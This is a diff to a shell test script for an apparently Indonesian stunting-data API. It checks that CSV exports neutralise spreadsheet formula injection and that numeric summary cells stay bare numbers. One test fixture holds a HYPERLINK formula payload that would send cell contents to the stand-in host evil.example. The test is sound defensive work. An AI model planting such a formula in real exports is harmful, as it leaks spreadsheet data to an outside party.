@@ -65,9 +65,9 @@ curl -s -o "$TMP/opd.csv" -w '%{http_code} %{content_type}' -H "Authorization: B
 	"http://127.0.0.1:$PORT/v1/desa/$A/intervensi.csv" > "$TMP/opd.status"
 is "$(cat "$TMP/opd.status")" "200 text/csv; charset=utf-8" "the agency's GET /v1/desa/$A/intervensi.csv answers 200 text/csv"
 has() { grep -cF -- "$2" "$1" | tr -d '\n'; }
-SEL_HYPER=$ID1,\"\''=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"'
+SEL_HYPER=$ID1,,\"\''=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"'   # id, opd (none), judul
 is "$(has "$TMP/opd.csv" "$SEL_HYPER")" 1 \
-	"the HYPERLINK title: \"'=HYPERLINK(...)\" (apostrophe inside the quotes, quotes doubled), its id a bare number before it"
+	"the HYPERLINK title: \"'=HYPERLINK(...)\" (apostrophe inside the quotes, quotes doubled), its id a bare number and no agency before it"
 is "$(has "$TMP/opd.csv" '"=HYPERLINK')" 0 "no cell starts with =HYPERLINK"
 is "$(has "$TMP/opd.csv" "\"'+62 812 555 Bu Kader\"")" 1 "+62 812 555 Bu Kader: \"'+62 812 555 Bu Kader\""
 is "$(has "$TMP/opd.csv" "\"'-5 kg beras\"")" 1 "-5 kg beras: \"'-5 kg beras\" (text, so neutralised)"
@@ -101,11 +101,16 @@ is "$(has "$TMP/desa.csv" '"@Kampung')" 0 "and never bare"
 curl -s -o "$TMP/ringkasan.csv" -H "Authorization: Bearer $TD" "http://127.0.0.1:$PORT/v1/ringkasan.csv?wilayah=13.76.01&periode=2026-10&tingkat=4"
 r=$(api GET "/v1/ringkasan?wilayah=13.76.01&periode=2026-10&tingkat=4" "$TD")
 PREV=$(jqb "$r" '.data[] | select(.kode == "'$A'") | .prevalensi_stunting')
-KOL=$(awk 'BEGIN { RS = "\r\n"; FS = "," } NR == 1 { for (i = 1; i <= NF; i++) if ($i == "\"prevalensi_stunting\"") print i }' "$TMP/ringkasan.csv")
-is "$(awk -v k="$KOL" 'BEGIN { RS = "\r\n"; FS = "," } index($0, "\"'$A'\"") == 1 { print $k }' "$TMP/ringkasan.csv")" "$PREV" \
-	"the summary's prevalensi_stunting ($PREV, a JSON number) is a bare number in the CSV"
-is "$(awk -v k="$KOL" 'BEGIN { RS = "\r\n"; FS = "," } index($0, "\"'$A'\"") == 1 { print ($k ~ /^[0-9.]+$/) }' "$TMP/ringkasan.csv")" 1 \
-	"(unquoted, no apostrophe)"
+# read the CSV with a real CSV reader: quoted cells may hold commas
+kolom_csv() { python3 -c 'import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
+k = rows[0].index(sys.argv[3])
+print(next(r[k] for r in rows[1:] if r[0] == sys.argv[2]))' "$@"; }
+CELL=$(kolom_csv "$TMP/ringkasan.csv" "$A" prevalensi_stunting)
+ok "$(awk -v a="$CELL" -v b="$PREV" 'BEGIN { exit !(a + 0 == b + 0 && b != "") }'; echo $?)" \
+	"the summary's prevalensi_stunting ($PREV, a JSON number) is the same number in the CSV ($CELL)"
+is "$(printf '%s' "$CELL" | grep -cE '^[0-9]+(\.[0-9]+)?$')" 1 "(a bare number, no apostrophe)"
+is "$(grep -c "\"'[0-9]" "$TMP/ringkasan.csv")" 0 "no number of the summary is quoted with an apostrophe"
 
 gw_stop
 sql "$FIXTURE_DELETE" >/dev/null
